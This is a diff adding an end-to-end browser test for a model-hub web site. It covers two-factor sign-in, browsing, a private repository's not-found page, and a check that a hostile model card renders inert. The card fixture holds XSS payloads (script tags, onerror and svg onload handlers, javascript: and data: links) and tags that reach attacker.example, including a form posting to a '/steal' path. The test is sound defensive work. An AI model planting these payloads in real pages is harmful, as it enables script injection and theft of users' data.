@@ -1,0 +1,186 @@
+import { mkdirSync } from "node:fs";
+import path from "node:path";
+import { fileURLToPath } from "node:url";
+import type { TotpEnrollment } from "@hub/api";
+import type { Browser, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { base32Decode, hotp, totpStep } from "../auth/totp.js";
+import { launchChromium } from "../test-support/browser.js";
+import { readJson, startHub, type TestHub } from "../test-support/hub-process.js";
+
+/** Screenshots of every page at both widths, for people to look at (not compared); git ignores the folder. */
+const SCREENSHOTS = fileURLToPath(new URL("../../../web/screenshots/", import.meta.url));
+const WIDTHS = [375, 1440] as const;
+
+const ATTACK_CARD = `# Inert card
+
+<script>alert("script")</script>
+<img src="x" onerror="alert('onerror')">
+<img src="https://attacker.example/pixel.png">
+[a link](javascript:alert('link'))
+<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
+<iframe src="https://attacker.example/frame"></iframe>
+<form action="https://attacker.example/steal"><input name="q"><button>Go</button></form>
+<style>body { display: none }</style>
+<meta http-equiv="refresh" content="0;url=https://attacker.example/">
+<a href="data:text/html,<script>alert(1)</script>">data link</a>
+
+Still readable.
+`;
+
+/**
+ * The web site walked in a real Chromium against a real `hubd` process: signing in with two-factor,
+ * reading a card, browsing files, the not-found page for what one may not see, and a card that attacks
+ * the page, watched for dialogs, console errors and requests to any other origin.
+ */
+describe("the web site in a browser", () => {
+  let hub: TestHub;
+  let browser: Browser;
+  let token: string;
+  let password: string;
+  let totpSecret: string;
+
+  const api = async (pathname: string, json?: unknown, method = "POST") => {
+    const response = await hub.request(pathname, { method, token, ...(json === undefined ? {} : { json }) });
+    expect(response.status, `${pathname}: ${await response.clone().text()}`).toBeLessThan(300);
+    return response;
+  };
+  const commit = (repo: string, files: Record<string, string>) =>
+    hub.request(`/api/models/${repo}/commit/main`, {
+      method: "POST",
+      token,
+      headers: { "content-type": "application/x-ndjson" },
+      body: [
+        { key: "header", value: { summary: "Add files" } },
+        ...Object.entries(files).map(([file, content]) => ({
+          key: "file",
+          value: { path: file, content: Buffer.from(content).toString("base64"), encoding: "base64" },
+        })),
+      ]
+        .map((line) => JSON.stringify(line))
+        .join("\n"),
+    });
+
+  /** A fresh browser context watching for anything a page should never do. */
+  async function watchedContext(width: number) {
+    const context = await browser.newContext({ viewport: { width, height: 900 } });
+    const problems: string[] = [];
+    const origin = new URL(hub.url).origin;
+    context.on("request", (request) => {
+      const url = new URL(request.url());
+      if (url.protocol !== "data:" && url.origin !== origin) problems.push(`request to ${url.href}`);
+    });
+    context.on("page", (page) => watch(page, problems));
+    return { context, problems };
+  }
+  function watch(page: Page, problems: string[]) {
+    page.on("dialog", (dialog) => {
+      problems.push(`dialog: ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    page.on("console", (message) => {
+      if (message.type() === "error") problems.push(`console: ${message.text()}`);
+    });
+    page.on("pageerror", (err) => problems.push(`page error: ${err.message}`));
+  }
+  async function shot(page: Page, name: string) {
+    await page.screenshot({
+      path: path.join(SCREENSHOTS, `${name}-${page.viewportSize()?.width}.png`),
+      fullPage: true,
+    });
+  }
+
+  beforeAll(async () => {
+    mkdirSync(SCREENSHOTS, { recursive: true });
+    hub = await startHub();
+    ({ password } = await hub.createUser("alice"));
+    await hub.createUser("bob");
+    token = await hub.createToken("alice");
+    await hub.reauthenticate(token, password);
+    const enrollment = await readJson<TotpEnrollment>(await api("/api/me/mfa/totp"));
+    totpSecret = enrollment.secret;
+    hub.secrets.add(totpSecret);
+    await api("/api/me/mfa/totp/confirm", { otp: hotp(base32Decode(totpSecret), totpStep(Date.now())) });
+    await api("/api/repos", { repo_id: "alice/gpt-tiny", repo_type: "model" });
+    const card =
+      "---\nlicense: apache-2.0\ntags: [text-generation]\n---\n# GPT tiny\n\nA very small model.\n";
+    expect(
+      (await commit("alice/gpt-tiny", { "README.md": card, "src/train.py": "print('hi')\n" })).status,
+    ).toBe(200);
+    await api("/api/repos", { repo_id: "alice/hidden", repo_type: "model", private: true });
+    await api("/api/repos", { repo_id: "alice/attack", repo_type: "model" });
+    expect((await commit("alice/attack", { "README.md": ATTACK_CARD })).status).toBe(200);
+    browser = await launchChromium();
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await hub?.stop();
+  });
+
+  it.each(WIDTHS)("signs in with two-factor and browses a repository at %i pixels", async (width) => {
+    const { context, problems } = await watchedContext(width);
+    const page = await context.newPage();
+    await page.goto(`${hub.url}/`);
+    await shot(page, "home");
+    await page.getByRole("link", { name: "Sign in" }).click();
+    await page.getByLabel("User name or email").fill("alice");
+    await page.getByLabel("Password").fill(password);
+    // A code the hub has not seen: the next step's, which it accepts within its window.
+    const step = totpStep(Date.now()) + (width === 375 ? 0 : 1);
+    await page.getByLabel(/Two-factor code/).fill(hotp(base32Decode(totpSecret), step));
+    await shot(page, "login");
+    await page.getByRole("button", { name: "Sign in" }).click();
+    await expect.poll(() => page.getByRole("link", { name: "alice", exact: true }).count()).toBe(1);
+
+    await page.getByRole("link", { name: "alice/gpt-tiny" }).first().click();
+    await page.getByRole("heading", { name: "GPT tiny" }).waitFor();
+    expect(await page.locator('[data-field="license"]').textContent()).toBe("apache-2.0");
+    await shot(page, "repository");
+
+    await page.getByRole("link", { name: "Files and versions" }).click();
+    await page.getByRole("link", { name: "src/" }).click();
+    await page.getByRole("link", { name: "train.py" }).click();
+    await page.locator("#L1").waitFor();
+    expect(await page.locator("#L1 .line").textContent()).toBe("print('hi')");
+    await shot(page, "file");
+
+    await page.getByRole("link", { name: "History" }).click();
+    await page.getByRole("link", { name: "Add files" }).waitFor();
+    await shot(page, "history");
+
+    await page.goto(`${hub.url}/models`);
+    expect(await page.getByRole("link", { name: "alice/hidden" }).count()).toBe(1);
+    await shot(page, "models");
+    await page.getByRole("button", { name: "Sign out" }).click();
+    await page.getByRole("link", { name: "Sign in" }).waitFor();
+    expect(problems).toEqual([]);
+    await context.close();
+  });
+
+  it("shows the not-found page to a visitor who may not see a private repository", async () => {
+    const { context, problems } = await watchedContext(1440);
+    const page = await context.newPage();
+    const response = await page.goto(`${hub.url}/alice/hidden`);
+    expect(response?.status()).toBe(404);
+    await page.getByRole("heading", { name: "This page does not exist, or you may not see it" }).waitFor();
+    await shot(page, "not-found");
+    // The page's own resources loaded; the 404 document itself is the only failed request.
+    expect(problems.filter((p) => !p.includes("404"))).toEqual([]);
+    await context.close();
+  });
+
+  it("renders a card that attacks the page inert: no dialog, no console error, no request elsewhere", async () => {
+    const { context, problems } = await watchedContext(1440);
+    const page = await context.newPage();
+    await page.goto(`${hub.url}/alice/attack`);
+    await page.getByText("Still readable.").waitFor();
+    expect(await page.locator('main a[href^="javascript:" i], main a[href^="data:" i]').count()).toBe(0);
+    await page.getByText("a link").click();
+    await page.waitForTimeout(300);
+    await shot(page, "attack-card");
+    expect(await page.locator("main iframe, main form, main svg, main script, main style").count()).toBe(0);
+    expect(await page.title()).toBe("alice/attack · Hub");
+    expect(problems).toEqual([]);
+    await context.close();
+  });
+});
